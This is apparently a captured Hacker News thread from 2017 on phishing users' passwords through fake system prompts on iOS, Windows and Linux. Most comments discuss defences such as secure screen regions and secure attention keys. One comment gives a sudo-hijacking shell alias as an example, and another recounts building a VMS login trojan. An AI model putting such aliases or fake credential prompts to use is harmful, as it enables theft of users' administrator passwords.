Hacker News new | past | comments | ask | show | jobs | submit login
iOS Privacy: Easily get a user's Apple ID password, just by asking (krausefx.com)
867 points by krausefx on Oct 10, 2017 | hide | past | favorite | 320 comments

When the iPhone X notch was first announced I thought it would be a fantastic security UI opportunity: What if the top of the screen was only writable by the system? It would normally be black orshow the time, but whenever there is a password dialog, it turns green with a security lock. This is something I've wanted on all computers for a while: fundamentally, any computer where you can get access to the whole screen's buffer means you can fake a logged out screen asking you to log in, or any other number of phishing attacks. The only way to prevent this is to have a separate secure screen buffer for a special part of the screen that the user can use to visually verify the security of an operation. The notch provided an awesome opportunity for the because: 1) it was NEW screen real estate, it wouldn't feel like you were acquiescing existing screen space for this security need and 2) it looks absolutely horrible when integrated into apps anyways, so why not use itminimally for good reason instead?

Especially when there’s already a UI precedent: the coloured status bar indicating a call, personal hotspot connection, etc. Great idea!

Fantastic idea, upvote for visibility. Reminds me of the old ctrl+alt+delete but much more friendly for the user.

Ditto for the touch bar on Macbooks (although that doesn't fix the issues for OS X in general).

This already exists on Windows (via require Ctrl-Alt-Del) and to a lesser degree on Android (by always being able to show the action bar in fullscreen).

Not really. From the GP

> This is something I've wanted on all computers for a while: fundamentally, any computer where you can get access to the whole screen's buffer means you can fake a logged out screen asking you to log in, or any other number of phishing attacks.In Windows, I can render the whole screen, so I can put up a fake login dialog. To some extent, Windows users are used to requiring a ctrl-alt-delete before being prompted for a password, but there's no reason why I can't put up a static image of what the screen looks like during a password request. Having a portion of the screen which an application is forbidden from accessing wouldsolve this, but the requirement for full-screen applications that want to write every user-visible pixel means that there's fundamentally no way to prevent this attack.

No, he's correct.

Ctrl-Alt-Delete on windows is a privileged hotkey that goes directly to the kernel. A phishing program can't intercept it once it has been pressed. If you know that Ctrl-Alt-Delete has been pressed, you are already privileged as the kernel and would be able to compromise a hypothetical protected screen buffer anyways.The Windows login screen here doesn't allow you to type in the password until you press the magical keys that only the kernel can access. This significantly increases security, since any phishing program that puts up a fake static image doesn't know when to present the login dialog.

Programs can detect Ctrl alt del somehow, because RDP clients do it. But they can't intercept it.

But a phishing program can just show theenter password screen, without the ctrl alt del prompt. Few users understand the security need to press ctrl alt del. And in newer Windows, it doesn't seem to prompt unless you enable it via GP.

Doesn’t RDP use Ctrl+Alt+End for bringing up the password screen?


There are two vectors here; the one that the post was talking about is the fact that as long as an application controls the screen, they can show whatever they want -- for example, an app (or a full-screen web site) could render a pixel-perfect version of this:


And the user would say "oh, another stupid UAC prompt", enter their password, and that would be that -- UAC doesn't stop andsay "press ctrl-alt-delete to enter your password". If it did, then that would significantly decrease the risk here.

They can detect it, VMWARE for example detects it as well and tells you that you should use ctrl+alt+insert.

Applications cannot fake ctrl+alt+del.

That said you can integrate with the windows login and extend it to show w/e you want I've written a client for a smart card for GINA a long long time ago.


Vmware requires root to beinstalled. At that point you are pwned already.

I also think it requires signed drivers. Those have to be verified by Microsoft.

In windows 10 the ctrl-alt-del to login is gone as default. Now you just have to press any key. Presumably due to touch screen support and usability.

Great idea. Except, I'm not sure if the average user would benefit from this. Would they be aware of this feature?

(Of course, no question that for us hackers this would be a very useful improvement!)

Not initially, but just as users can be 'trained' to automatically enter in their password when they see a popup, they can eventually be trained to expect a new UI element to indicate it's secure.

Seems like in browsers, the lock icon and (for EV certs) company name in the location bar has been a plus, so there's certainly precedent for this sort of thing.

This would also make sense on the MBP's touchbar

Yes indeed. I'm always a little anxious when an installer (or something) prompts me for an administrator password, and some secure channel indicating that it's really the OS that's asking for it would help to assuage my fears.

What does prevent the developer from making this new screen buffer blank/black and making the top of app's screen look exactly like that shape and style? The user won't see the differenceexcept small top margin.

Am I missing something here? Isn't the notch already taken up by FaceID sensors/front-facing camera? It isn't really "extra screen real estate".

I do like the idea of a separate indicator for system-wide security events though. Perhaps an LED indicator although that doesn't seem very Apple-like.

I believe OP is referring to the screen real estate next to the notch on both sides.

I worked in dumb phone standards 12 years ago (GlobalPlatform) and it was actually in the standards to tell the user "you are in the secure zone". Well, OEMS in the western world were not really willing to implement it, funny it comes back now.

Great idea. I wish Apple would consider this.

Plus 3) Itwould make app development easier. No more trying to fit your UI around the notch.

fantastic idea

This is related to an issue called root-phishing or superuser-phishing. You can do this with the Windows admin password prompt, the MacOS prompt, or with Linux sudo, as long as you can run code from a user account or edit a single file.

    alias sudo='sudo ./somethingbad; sudo'
I'm surprised you don't hear about this that often. There is no perfect solution, since any visual feedback the operating system can do to make their prompt "official-looking" is possible by an application as well, unless the operating system can display information the user would recognize that it not accessible by the application. A perfect solution on iOS is to "minimize" the application so that the home screen is shown and then show the password prompt. The user would immediately recognize the wallpaper and icons to be theirs, which are two pieces of information unavailable to the application. However, the application could still fool the user bydisplaying the box over the application anyway.

There are many solutions. First is requiring un-catchable keyboard shortcut to enter the password. Something like "ctrl-alt-delete" for Windows (I'm not sure if it's un-catchable, but you got an idea) or even better some unused key like pause/break. User will be trained to press this shortcut and app can't replicate it, so user won't be tricked. Second is using fingerprint. iOS should just use fingerprint always instead of asking the password (an exception is first boot or failed fingerprint). Now the case of failed fingerprint might be exploited, but I think it could be solved too. Require pressing of "home" button to acknowledge fingerprint. If fingerprint is real, OS will ignore this press. If fingerprint is fake, OS will just close an app.

Unfortunately operating system developers are not considering this attack. But they certainly can defend if they want.

I think the idea behind ctrl-alt-delete is that it generates a non-maskable interrupt that can't be hooked from user-mode. In days past, this sort of thing was called a secure attention key.And you're right, this needs to be a default part of any login handler. Why don't we use it when logging into a Linux console? The login prompt could easily be spoofed by a user-mode program.

>The login prompt could easily be spoofed by a user-mode program.

On the VT100 terminals in the computer lab in college (back in the early 90s) someone was doing this. A shell script to harness logins, print it was unsuccessful and log out. .

There was a key at the top of thevt-100 keyboard that would reset it. The "key" part was often pried off (accidental pressing was bad), but you could still press the nub left behind.

In my misspent youth I wrote a login trojan for VAX/VMS.It circumvented the "break" key trick that you are alluding to above. I had to drop down to Bliss-32 and use the $QIO syscall but it can be done. Once I had captured the sysadmin password and logged in once to prove my achievement I never ran it again. Learned many interesting things though. My task was made easier because DEC published the source code for the OS, albeit as Microfiche. I was therefore able to study the terminal handler code and figure out how to make a trojan that perfectlyemulated the regular login behavior including all its timeouts and responses to various control keys.

Oh, and the VAX-11/780 I had hacked into crashed due to a memory board fault in the minute after I had logged in with my snagged admin password. I spent the remainder of the weekend sweating that I had broken the VAX since I had no idea what had happened. I had just given myself all 32 of the VMS account privileges when it went down.

> DEC published the source code for the OS, albeit as Microfiche.

Wait.... What?

Nice job decoding that.

It was written in Bliss so not so hard if you understand BCPL or C. Also I was 17 and had a lot of time on my hands...

I think (s)he wonders how you read that.

My guess would be that you did using the microfiche reader at your university or at a library. Before digitization, such devices were fairly common wherever people had a lot of text to archive.

(Aside: https://en.wikipedia.org/wiki/Microform even has a photo of a “DuKane brand microfiche reader with source code printed on the films.”. I couldn’t read enough of the text on the envelope to decide whether that is true from the photographOh yeah. I worked at a defense contractor so we had facilities to read and print out Microfiche.

30 or so years later I bought a huge stack of DEC microfiche on eBay so I could still do it if I wanted. I don't have equipment to read it though.

The Linux console does support a secure attention key that can't be trapped and will kill any process which has /dev/console open. root can configure it with /sbin/loadkeys.

Not sure how distributions tend to configure it by default.

I just looked at the table with dumpkeys, but I'm not sure what I'd have to look for to identify that key.

  sudo dumpkeys | rg --only-matching '=.*' | sort | uniq
doesn't show anything that stands out, except maybe for Boot and Break. (But I guess that's a line break?) What would the key do when pressed?

